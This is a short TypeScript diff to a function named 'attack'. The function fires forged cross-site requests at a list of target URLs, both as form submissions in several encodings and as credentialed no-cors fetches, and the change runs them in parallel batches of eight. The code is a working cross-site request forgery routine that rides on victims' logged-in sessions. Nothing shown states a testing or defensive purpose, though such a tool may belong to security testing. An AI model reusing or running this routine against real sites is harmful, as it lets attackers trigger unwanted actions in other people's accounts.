@@ -90,7 +90,7 @@ async function attack(targets: readonly Target[]): Promise<number> {
       form.remove();
     });
   }
-  for (const target of targets) {
+  async function strike(target: Target): Promise<void> {
     const { url, method, body } = target;
     const json = JSON.stringify(body);
     for (const enctype of ['application/x-www-form-urlencoded', 'multipart/form-data', 'text/plain'])
@@ -111,6 +111,8 @@ async function attack(targets: readonly Target[]): Promise<number> {
     const query = new URLSearchParams(Object.entries(body).map(([key, value]) => [key, String(value)]));
     await attempt(() => fetch(`${url}${url.includes('?') ? '&' : '?'}${query}`, { credentials: 'include', mode: 'no-cors' }));
   }
+  // Several at a time, as most of each is waiting.
+  for (let at = 0; at < targets.length; at += 8) await Promise.all(targets.slice(at, at + 8).map(strike));
   return attempts;
 }
 
